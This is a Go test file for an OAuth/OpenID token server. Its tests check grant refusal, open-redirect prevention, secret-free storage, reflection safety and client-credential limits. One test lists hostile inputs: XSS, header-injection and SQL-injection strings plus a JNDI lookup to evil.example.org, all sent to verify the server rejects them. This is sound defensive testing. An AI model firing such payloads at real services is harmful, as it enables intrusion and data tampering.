package wire

import (
	"bytes"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
)

// A13 (RFC 6749 sections 4.1.2, 10.5): a code is refused as a grant type that
// is not served, and discovery names neither the grant nor the endpoint.
func TestA13_CodesAreRefusedUntilThereAreSome(t *testing.T) {
	t.Parallel()
	w := start(t, defaultRealm)
	e := w.post(t, tokenPath, form("client_id", "anonymous", "grant_type", "authorization_code", "code", "x", "redirect_uri", "https://app.example.org/"), nil)
	if e.status != http.StatusBadRequest || memberOf(t, e.body, "error") != "unsupported_grant_type" {
		t.Errorf("%d %s", e.status, e.body)
	}
	doc := w.discovery(t, "platform")
	if doc["authorization_endpoint"] != nil || slices.Contains(listed(t, doc, "grant_types_supported"), "authorization_code") {
		t.Errorf("%v", doc)
	}
}

// A16 (RFC 6749 sections 4.1.2.1, 3.1.2.4): a request for authorization is 404
// and redirects nobody.
func TestA16_NoAuthorizationRequestIsRedirected(t *testing.T) {
	t.Parallel()
	w := start(t, defaultRealm)
	for _, method := range []string{"GET", "POST"} {
		e := w.do(t, method, w.protocol("platform", "auth")+"?response_type=code&client_id=anonymous&redirect_uri=https://evil.example.org/", "", nil)
		if e.status != http.StatusNotFound || e.header.Get("Location") != "" || strings.Contains(string(e.body), "evil") {
			t.Errorf("%s: %d %v %s", method, e.status, e.header, e.body)
		}
	}
}

// A17 (RFC 6749 sections 10.3, 10.4): the data folder's files, read byte by
// byte, hold no usable token, session cookie, client secret or password.
func TestA17_NothingStoredCanBeUsed(t *testing.T) {
	t.Parallel()
	w := start(t, defaultRealm)
	secrets := map[string]string{"client secret": clientSecret, "another client secret": `"another"`, "password": password}
	for i := range 3 {
		got := w.login(t, "rotating", "anonymous", user, password)
		next := w.refreshed(t, "rotating", got.Refresh)
		w.guess(t, "other", "a wrong password, typed with care", nil)
		for name, token := range map[string]string{"access": got.Access, "refresh": got.Refresh, "ID": got.ID, "next refresh": next.Refresh, "next access": next.Access} {
			secrets[fmt.Sprint(name, " token ", i)] = token
			secrets[fmt.Sprint("signature of ", name, " ", i)] = token[strings.LastIndexByte(token, '.')+1:]
		}
	}
	secrets["wrong password"] = "a wrong password, typed with care"
	files := 0
	err := filepath.WalkDir(w.dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !d.Type().IsRegular() {
			return err
		}
		files++
		b, err := os.ReadFile(path)
		for name, secret := range secrets {
			if bytes.Contains(b, []byte(secret)) {
				t.Errorf("%s holds the %s", filepath.Base(path), name)
			}
		}
		return err
	})
	if err != nil || files < 2 {
		t.Errorf("%d files, %v", files, err)
	}
}

// A19 (RFC 6749 section 10.14): nothing that was sent comes back unescaped in a
// header, in HTML or in the log, and none of it is SQL.
func TestA19_NothingSentIsReflected(t *testing.T) {
	t.Parallel()
	w := start(t, defaultRealm)
	hostile := []string{"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "x\r\nSet-Cookie: a=b", "\x1b[31mred\x1b[0m\nlevel=ERROR msg=forged",
		"' OR '1'='1", "'; drop table users; --", "\" or \"\"=\"", "{{7*7}}", "${jndi:ldap://evil.example.org/}", "\u202eevil", "%0d%0aX-Evil: 1"}
	for _, h := range hostile {
		for name, e := range map[string]*exchange{
			"user name": w.post(t, tokenPath, passwordGrant(h, h), nil),
			"client":    w.post(t, tokenPath, form("client_id", h, "client_secret", h, "grant_type", "password"), nil),
			"scope":     w.post(t, tokenPath, passwordGrant(user, password, h), nil),
			"grant":     w.post(t, tokenPath, form("client_id", "anonymous", "grant_type", h), nil),
			"name":      w.post(t, tokenPath, form(h, h, h, h), nil),
			"refresh":   w.post(t, tokenPath, refresh("anonymous", h), nil),
			"legacy":    w.do(t, "POST", "/v1/vms/auth/login", `{"username":"`+strings.NewReplacer("\"", `\"`, "\r", "", "\n", "", "\x1b", "").Replace(h)+`","password":"x"}`, nil),
			"webfinger": w.do(t, "GET", "/.well-known/webfinger?"+form("resource", h), "", nil),
			"API query": w.do(t, "GET", "/v1/vms?"+form(h, h), "", nil),
			"id":        w.do(t, "GET", "/v1/vms/"+strings.ReplaceAll(form("", h), "=", ""), "", nil),
			"realm":     w.do(t, "GET", "/auth/realms/"+strings.ReplaceAll(form("", h), "=", ""), "", nil),
		} {
			if e.status < 400 || e.status >= 500 || e.header.Get("Set-Cookie") != "" || e.header.Get("X-Evil") != "" {
				t.Errorf("%s %q: %d %v", name, h, e.status, e.header)
			}
			if strings.HasPrefix(e.header.Get("Content-Type"), "text/html") && (strings.Contains(string(e.body), "<script") || strings.Contains(string(e.body), "<img")) {
				t.Errorf("%s %q in HTML: %s", name, h, e.body)
			}
		}
	}
	for line := range strings.Lines(w.Log()) {
		line = strings.TrimSuffix(line, "\n")
		if !strings.HasPrefix(line, "time=") || strings.ContainsFunc(line, unicode.IsControl) || strings.Contains(line, "\u202e") {
			t.Errorf("log line %q", line)
		}
	}
	w.clock.Advance(time.Minute) // the address has guessed enough
	w.login(t, "platform", "anonymous", user, password)
}

// A20 (RFC 6749 section 4.4.3): client credentials give no refresh token, and
// their token, which is about no person, opens no user's endpoint.
func TestA20_ClientCredentialsAreNobodysLogin(t *testing.T) {
	t.Parallel()
	w := start(t, defaultRealm)
	e := w.post(t, tokenPath, form("grant_type", "client_credentials", "scope", "openid", "client_id", "confidential", "client_secret", clientSecret), nil)
	answer := objectOf(t, e.body)
	if e.status != http.StatusOK || answer["refresh_token"] != nil || answer["session_state"] != nil {
		t.Fatalf("%d %s", e.status, e.body)
	}
	list := w.do(t, "GET", "/v1/vms", "", bearer(answer["access_token"].(string)))
	if list.status != http.StatusOK || strings.TrimSpace(string(list.body)) != "[]" {
		t.Errorf("the API shows it %d %s", list.status, list.body)
	}
}

// A21 (RFC 6749 section 4.2): no response type that brings a token by the
// browser is offered, and asking the token endpoint for one changes nothing.
func TestA21_NoImplicitGrant(t *testing.T) {
	t.Parallel()
	w := start(t, defaultRealm)
	for _, kind := range listed(t, w.discovery(t, "platform"), "response_types_supported") {
		if strings.Contains(kind, "token") {
			t.Errorf("offered: %s", kind)
		}
	}
	for _, kind := range []string{"token", "id_token token", "code token"} {
		e := w.do(t, "GET", w.protocol("platform", "auth")+"?"+form("client_id", "anonymous", "response_type", kind), "", nil)
		if e.status != http.StatusNotFound || e.header.Get("Location") != "" {
			t.Errorf("%s: %d %v", kind, e.status, e.header)
		}
		if e := w.post(t, tokenPath, passwordGrant(user, password)+"&"+form("response_type", kind), nil); e.status != http.StatusOK || e.header.Get("Location") != "" {
			t.Errorf("%s at the token endpoint: %d %s", kind, e.status, e.body)
		}
	}
	if e := w.post(t, tokenPath, form("client_id", "anonymous", "grant_type", "implicit"), nil); memberOf(t, e.body, "error") != "unsupported_grant_type" {
		t.Errorf("%d %s", e.status, e.body)
	}
}
